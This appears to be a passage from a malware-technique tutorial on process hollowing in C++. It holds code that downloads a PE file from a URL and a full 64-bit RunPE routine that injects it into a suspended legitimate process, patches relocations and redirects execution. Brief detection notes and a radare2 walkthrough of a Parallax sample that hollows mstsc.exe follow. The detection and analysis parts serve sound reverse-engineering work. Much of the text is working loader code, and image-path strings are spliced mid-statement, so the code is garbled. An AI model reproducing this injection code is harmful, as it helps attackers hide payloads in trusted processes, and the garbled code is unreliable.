    HINTERNET hInternetSession;
    int fSize = 0;

    DWORD dwBytesRead=0;
    DWORD lpOutBuffer=0;
    DWORD dwSize=sizeof(lpOutBuffer);
    //char *PE_buffer;
    LPVOID PE_buffer;
    // Make internet connection.
    hInternetSession = InternetOpenA(
        "Mozilla 1.2.3", // agent
        NULL, NULL, 0);                // defaults

    // Make connection to desired page.
    hURL = InternetOpenUrl(
        hInternetSession,                       // session handle
        fileUrl,                                // URL to access
        NULL, 0, 0, 0);                         // defaults

    // If connection to the file is successfully opened we go check for the file size
        fSize = (int)HttpQueryInfoA(hURL,HTTP_QUERY_CONTENT_LENGTH | HTTP_QUERY_FLAG_NUMBER, &lpOutBuffer,&dwSize,NULL);
        printf("[+] File size: %d \n",  lpOutBuffer);
        //PE_buffer = (char *) malloc(lpOutBuffer+1);
        PE_buffer = VirtualAlloc(NULL, lpOutBuffer,  MEM_COMMIT, PAGE_READWRITE);
            printf("[-] Error allocating buffer for remote file: %d \n", GetLastError());
            if(InternetReadFile(hURL, PE_buffer, lpOutBuffer,&dwBytesRead)){
                printf("[+] Number of bytes read: %d \n",dwBytesRead);
                return PE_buffer;
                printf("[-] Error downloading the file content. Error: %d \n", GetLastError());
        printf("[-] Error opening the url: %s Error code: %d \n", fileUrl, GetLastError());
    // Close down connections.

    return nullptr;

RUNPE 64 with RELOCs

So back to the example, the following code can be used to implement process hollowing with relocations. By using a legitimate PE and a PE retrieved either from a web server, a file on disk or whatever mean considered.

The process is simpe and very similar to the one of PE injection. First we load and hollow the remote process by unmapping the executable memory from the process memory space (not really necessary though), then we parse the buffer containing the evil PE as we previously seen, we make sure we have a memory buffer inthe remote process, and then we write the PE headers, then we map the executable section by section using their virtual memory space and virtual addressess. After that we apply the needed relocations by using the .reloc section. After that we set the context of the remote suspended process in order to make it start at our entry point. After that we are ready to resume its execution.

Note that on a 32 bit process, when a process is started, ebx registeris pointing to the TIB, and eax is pointing to the entry point. On a 64 bit process, rdx is pointing to the TIB, and rcx is pointing to the entry point. So don’t copy and paste a process hollowing PoC for x32 and try to implement it for an x64 it won’t work.

BOOL RunPEReloc64(const LPPROCESS_INFORMATION lpPI, const LPVOID lpImage, const LPVOID remoteBase)
    LPVOID lpAllocAddress;
    DWORD umResult;

    const auto lpImageDOSHeader = (PIMAGE_DOS_HEADER)lpImage;
    const auto lpImageNTHeader64 = (PIMAGE_NT_HEADERS64)((uintptr_t)lpImageDOSHeader + lpImageDOSHeader->e_lfanew);

    umResult = UnmapSectionView(lpPI->hProcess, (LPVOID)remoteBase);

    lpAllocAddress = VirtualAllocEx(lpPI->hProcess, (LPVOID)remoteBase, lpImageNTHeader64->OptionalHeader.SizeOfImage, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    if (lpAllocAddress == nullptr)
        printf("[-] An error has occurred when trying to allocate memory for the new image. Error: %d \n", GetLastError());
        return FALSE;printf("[+] Memory allocate at : 0x%p\n", (LPVOID)(uintptr_t)lpAllocAddress);

    const DWORD64 DeltaImageBase = (DWORD64)lpAllocAddress - lpImageNTHeader64->OptionalHeader.ImageBase;

    lpImageNTHeader64->OptionalHeader.ImageBase = (DWORD64)lpAllocAddress;
    const BOOL bWriteHeaders = WriteProcessMemory(lpPI->hProcess, lpAllocAddress, lpImage, lpImageNTHeader64->OptionalHeader.SizeOfHeaders, nullptr);
    if (!bWriteHeaders)
        printf("[-] An error has occurred when trying to write the headers of the new image. Error: %d \n",GetLastError());
        return FALSE;

    printf("[+] Headers write at : 0x%p\n", lpAllocAddress);

    const IMAGE_DATA_DIRECTORY ImageDataReloc = GetRelocAddress64(lpImage);
    PIMAGE_SECTION_HEADER lpImageRelocSection = nullptr;

    for (int i = 0; i < lpImageNTHeader64->FileHeader.NumberOfSections; i++)
        const auto lpImageSectionHeader = (PIMAGE_SECTION_HEADER)((uintptr_t)lpImageNTHeader64 + 4 +sizeof(IMAGE_FILE_HEADER) + lpImageNTHeader64->FileHeader.SizeOfOptionalHeader + (i * sizeof(IMAGE_SECTION_HEADER)));
        if (ImageDataReloc.VirtualAddress >= lpImageSectionHeader->VirtualAddress && ImageDataReloc.VirtualAddress < (lpImageSectionHeader->VirtualAddress + lpImageSectionHeader->Misc.VirtualSize))
            lpImageRelocSection = lpImageSectionHeader;

        const BOOL bWriteSection = WriteProcessMemory(lpPI->hProcess, (LPVOID)((UINT64)lpAllocAddress + lpImageSectionHeader->VirtualAddress), (LPVOID)((UINT64)lpImage + lpImageSectionHeader->PointerToRawData), lpImageSectionHeader->SizeOfRawData, nullptr);
        if (!bWriteSection)
            printf("[-] An error has occurred when trying to write the section : %s. Error %d \n", (LPSTR)lpImageSectionHeader->Name, GetLastError());
            return FALSE;

        printf("[+] Section %s write at : 0x%p.\n", (LPSTR)lpImageSectionHeader->Name, (LPVOID)((UINT64)lpAllocAddress + lpImageSectionHeader->VirtualAddress));if (lpImageRelocSection == nullptr)
        printf("[-] An error has occurred when trying to get the relocation section of the source image. Error %d \n", GetLastError());
        return FALSE;

    printf("[+] Relocation section : %s\n", (char*)lpImageRelocSection->Name);

    DWORD RelocOffset = 0;

    while (RelocOffset < ImageDataReloc.Size)
        const auto lpImageBaseRelocation = (PIMAGE_BASE_RELOCATION)((DWORD64)lpImage + lpImageRelocSection->PointerToRawData + RelocOffset);
        RelocOffset += sizeof(IMAGE_BASE_RELOCATION);
        const DWORD NumberOfEntries = (lpImageBaseRelocation->SizeOfBlock -sizeof(IMAGE_BASE_RELOCATION)) / sizeof(IMAGE_RELOCATION_ENTRY);
        for (DWORD i = 0; i < NumberOfEntries; i++)
            const auto lpImageRelocationEntry = (PIMAGE_RELOCATION_ENTRY)((DWORD64)lpImage + lpImageRelocSection->PointerToRawData + RelocOffset);
            RelocOffset += sizeof(IMAGE_RELOCATION_ENTRY);

            if (lpImageRelocationEntry->Type == 0)

            const DWORD64 AddressLocation = (DWORD64)lpAllocAddress + lpImageBaseRelocation->VirtualAddress + lpImageRelocationEntry->Offset;
            DWORD64 PatchedAddress = 0;

            ReadProcessMemory(lpPI->hProcess, (LPVOID)AddressLocation, &PatchedAddress, sizeof(DWORD64), nullptr);

            PatchedAddress += DeltaImageBase;

            WriteProcessMemory(lpPI->hProcess, (LPVOID)AddressLocation, &PatchedAddress, sizeof(DWORD64), nullptr);


    printf("[+] Relocations done.\n");

    CTX.ContextFlags = CONTEXT_FULL;

    const BOOL bGetContext = GetThreadContext(lpPI->hThread, &CTX);
    if (!bGetContext)
        printf("[-] An error has occurred when trying to get the thread context. Error: %d \n", GetLastError());
        return FALSE;

    const BOOL bWritePEB = WriteProcessMemory(lpPI->hProcess, (LPVOID)(CTX.Rdx + 0x10), &lpImageNTHeader64->OptionalHeader.ImageBase, sizeof(DWORD64), nullptr);
    if (!bWritePEB)
        printf("[-] An error has occurred when trying to write the image base in the PEB. Error: %d \n", GetLastError());
        return FALSE;CTX.Rcx = (DWORD64)lpAllocAddress + lpImageNTHeader64->OptionalHeader.AddressOfEntryPoint;

    const BOOL bSetContext = SetThreadContext(lpPI->hThread, &CTX);
    if (!bSetContext)
        printf("[-] An error has occurred when trying to set the thread context. Error: %d \n", GetLastError());
        return FALSE;


    return TRUE;

The code related to the memory unmapping can be found here:BOOL UnmapSectionView(const HANDLE hProcess, const LPVOID base)
    DWORD dwResult = NULL;
        HMODULE hNtdllBase = GetModuleHandleA("ntdll.dll");pfnZwUnmapViewOfSection pZwUnmapViewOfSection = (pfnZwUnmapViewOfSection)GetProcAddress(hNtdllBase, "ZwUnmapViewOfSection");

    dwResult = pZwUnmapViewOfSection(hProcess, (LPVOID)base);

    return dwResult;

Statically, we start by detecting a VirtualAllocEx p1 Then a Write memory… p2

We can also detect the writting of the headers and sections:

p3 The loop through the relocation table: p4

And the set thread context, which is very important here: p5

Process injection in ParallaxAnd now let’s check how it looks like in a real malware! We will be working with This parallax sample

So image the following situation. You work in threat intelligence / malware reversing and the forensics team sends you a sample, they also conducted an initial examination that indicates some correlation with the Parallax malware, your goal should focus on retrieving the malware payload as well as some C2 configuration.

After some radare2 and some googling you get to the followingarticle by vk_intel

The following workflow catches your attention:


And you also see that the malware may implement some obfuscation and anti analysis techniques.

So from this point, we may load the malware into radare2 or some other for static analysis, we’ll see heavyobfuscation. Because of that, we may try to go for a dynamic analysis and see if we can follow the workflow and extract something:

So we run till the entry point, and we start placing breakpoints on calls related to Memory allocation and management as well as process management:

[0x772b1ba3]> dcu entry0
Continue until 0x00401584 using 1 bpsize
(1736) loading library at 0x76210000 (C:\Windows\SysWOW64\imm32.dll) imm32.dll
(1736) Created thread 2456 (start @ 77235900) (teb @ 003FC000)
hit breakpoint at: 0x401584
[0x00401584]> dmi KERNEL32 CreateProcessW

nth paddr      vaddr      bind   type size lib                                       name
235 0x000098e0 0x752f88e0 GLOBAL FUNC 0    KERNEL32.dll                              CreateProcessW
8   0x00067510 0x75361510 NONE   FUNC 0    api-ms-win-core-processthreads-l1-1-0.dll imp.CreateProcessW
[0x00401584]> dmi ntdll RtlDecompressBuffer

nth paddr      vaddr      bind   type size lib       name
894 0x000d9b20 0x772da720 GLOBAL FUNC 0    ntdll.dll RtlDecompressBuffer
[0x00401584]> dmi ntdll NtWriteVirtualMemory

nth paddr      vaddr      bind   type size lib       name
697 0x00072170 0x77272d70 GLOBAL FUNC 0    ntdll.dll NtWriteVirtualMemory
[0x00401584]> db 0x772da720
[0x00401584]> db 0x752f88e0
[0x00401584]> db 0x77272d70

Note that as this is a malware that takes obfuscation somehow seriously, it looks like it avoids standard api kernel32 api calls and goes for undocummented ntdll calls

So we hit the first breakpoint, related to CreateProcess. Wesee mstsc.exe being spawned in a suspended state. At this point it is very important to mark the process handle.

hit breakpoint at: 0x752f88e0
[0x752f88e0]> pxr @ esp
0x0019f120 0x00714059  Y@q. @ esp PRIVATE  ascii ('Y') R W X 'mov dword [ebp - 0x90], eax' 'PRIVATE '
0x0019f124 0x0019f150  P... PRIVATE  edx R W 0x3a0043
0x0019f128 ..[ null bytes ]..   00000000
0x0019f138 0x08000004  ....
0x0019f13c ..[ null bytes ]..   00000000
0x0019f144 0x0019f5b0  .... PRIVATE  ecx R W 0x0
0x0019f148 0x0019faa0  .... PRIVATE  eax R W 0x0
0x0019f14c 0x00508508  ..P. IMAGE  .data esi R W 0x0
0x0019f150 0x003a0043  C.:. @ edx PRIVATE  ascii ('C')
0x0019f154 0x0057005c  \.W. PRIVATE  ascii ('\') R W 0x0
0x0019f158 0x006e0069  i.n. PRIVATE  ascii ('i')
0x0019f15c 0x006f0064  d.o. PRIVATE  ascii ('d')

[0x752f88e0]> pxw @ 0x0019f150
0x0019f150  0x003a0043 0x0057005c 0x006e0069 0x006f0064  C.:.\.W.i.n.d.o.
0x0019f160  0x00730077 0x0073005c 0x00730079 0x00650074  w.s.\.s.y.s.t.e.
0x0019f170  0x0033006d 0x005c0032 0x0073006d 0x00730074  m.3.2.\.m.s.t.s.
0x0019f180  0x002e0063 0x00780065 0x00000065 0x00000000  c...e.x.e.......And we can effectively see that the program creates a sub-process:

Selected: 1736 2116
 * 1736 ppid:2564 uid:-1 s C:\Users\lab\Desktop\radare2-5.7.6-w32\bin\para.exe
 - 684 ppid:1736 uid:-1 s C:\Windows\SysWOW64\mstsc.exeWe then hit NtlWriteVirtualMemory which seems to write some data into the remote process

[0x752f88e0]> dc
hit breakpoint at: 0x77272d70
[0x77272d70]> pxr @ esp
0x0019e3ec 0x751bf6df  ...u @ esp IMAGE  R X 'mov dword [ebp - 0x838], eax' 'IMAGE '
0x0019e3f0 0x0000031c  .... 796
0x0019e3f4 0x004fd1e8  ..O. IMAGE  .text sub.OLEAUT32.DLL_SafeArrayGetLBound,eax sub.OLEAUT32.DLL_SafeArrayGetLBound R X 'jmp dword [0x515ec0]' 'IMAGE '
0x0019e3f80x0019e638  8... PRIVATE  R W 0x650000
0x0019e3fc 0x00000004  .... 4
0x0019e400 ..[ null bytes ]..   00000000
0x0019e404 0x4fe7958f  ...O

